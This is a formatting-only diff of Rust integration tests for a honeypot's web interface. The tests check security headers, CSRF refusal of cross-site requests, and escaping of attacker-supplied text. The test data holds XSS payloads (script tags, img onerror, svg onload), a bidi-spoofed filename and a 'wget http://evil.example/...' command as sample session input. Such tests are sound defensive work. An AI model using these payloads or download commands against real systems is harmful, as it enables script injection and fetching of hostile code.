@@ -68,8 +68,7 @@ fn every_page_is_html_that_runs_nothing_but_our_script() {
         let nonce = policy.split("'nonce-").nth(1).and_then(|rest| rest.split('\'').next()).expect("a nonce").to_owned();
         assert!(page.text().contains(&format!(r#"<script src="/live.js" nonce="{nonce}" defer>"#)));
         assert!(nonces.insert(nonce), "never the same");
-        let expected =
-            [("x-frame-options", "deny"), ("referrer-policy", "same-origin"), ("cross-origin-opener-policy", "same-origin")];
+        let expected = [("x-frame-options", "deny"), ("referrer-policy", "same-origin"), ("cross-origin-opener-policy", "same-origin")];
         for (name, value) in expected.into_iter().chain([("x-content-type-options", "nosniff"), ("cache-control", "no-store")]) {
             assert_eq!(header(&page, name), Some(value), "{path}: {name}");
         }
@@ -155,7 +154,8 @@ fn a_form_of_another_site_changes_nothing() {
     let state = || daemon.get("/api/v1/sinks/archive").json()["state"].as_str().map(str::to_owned);
     let csrf = token(&daemon.get("/sinks"));
     let field = format!("csrf={csrf}");
-    let foreign = ["Origin: http://evil.example\r\n", "Origin: null\r\n", "Sec-Fetch-Site: cross-site\r\n", "Sec-Fetch-Site: same-site\r\n"];
+    let foreign =
+        ["Origin: http://evil.example\r\n", "Origin: null\r\n", "Sec-Fetch-Site: cross-site\r\n", "Sec-Fetch-Site: same-site\r\n"];
     for headers in foreign {
         let refused = daemon.unix(&form("/sinks/archive/pause", headers, &field));
         assert_eq!(refused.status, 403, "{headers}: {refused:?}");
@@ -256,16 +256,39 @@ fn dead_letters_are_shown_and_delivered_again() {
 fn whatever_attackers_wrote_stays_text() {
     let home = home();
     let daemon = Daemon::start(&home);
-    let names = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'/><svg/onload=alert(1)>", "\u{202e}gpj.exe\u{1b}[31m", "</title><b>"];
+    let names = [
+        "<script>alert(1)</script>",
+        "\"><img src=x onerror=alert(1)>",
+        "'/><svg/onload=alert(1)>",
+        "\u{202e}gpj.exe\u{1b}[31m",
+        "</title><b>",
+    ];
     for (number, name) in names.iter().enumerate() {
-        load(&daemon, &home, &format!("{number}.json"), &session(&format!("<i>\"{number}"), name, &format!("wget http://evil.example/{name}")));
+        load(
+            &daemon,
+            &home,
+            &format!("{number}.json"),
+            &session(&format!("<i>\"{number}"), name, &format!("wget http://evil.example/{name}")),
+        );
     }
     let lines = honeyguide::simulate::hostile::lines().join(&b'\n');
     load(&daemon, &home, "hostile.json", &lines);
     let id = "%3Ci%3E%220";
     let quoted = "username:%22%3Cscript%3Ealert(1)%3C/script%3E%22";
-    let paths = ["/", "/search?query=eventid:*", "/search?query=exists:session&order=oldest", "/indicators", "/reports?kind=daily&period=last", "/audit"];
-    let more = [format!("/sessions/{id}"), format!("/search?query={quoted}"), "/sessions/c0ffee123456".to_owned(), "/search?query=%22%3Cimg".to_owned()];
+    let paths = [
+        "/",
+        "/search?query=eventid:*",
+        "/search?query=exists:session&order=oldest",
+        "/indicators",
+        "/reports?kind=daily&period=last",
+        "/audit",
+    ];
+    let more = [
+        format!("/sessions/{id}"),
+        format!("/search?query={quoted}"),
+        "/sessions/c0ffee123456".to_owned(),
+        "/search?query=%22%3Cimg".to_owned(),
+    ];
     for path in paths.iter().map(|path| (*path).to_owned()).chain(more) {
         let page = daemon.get(&path).text();
         for element in ["<script>", "<img", "<svg/", "<b>", "<i>", "onerror=\"", "href=\"http", "href=\"javascript"] {
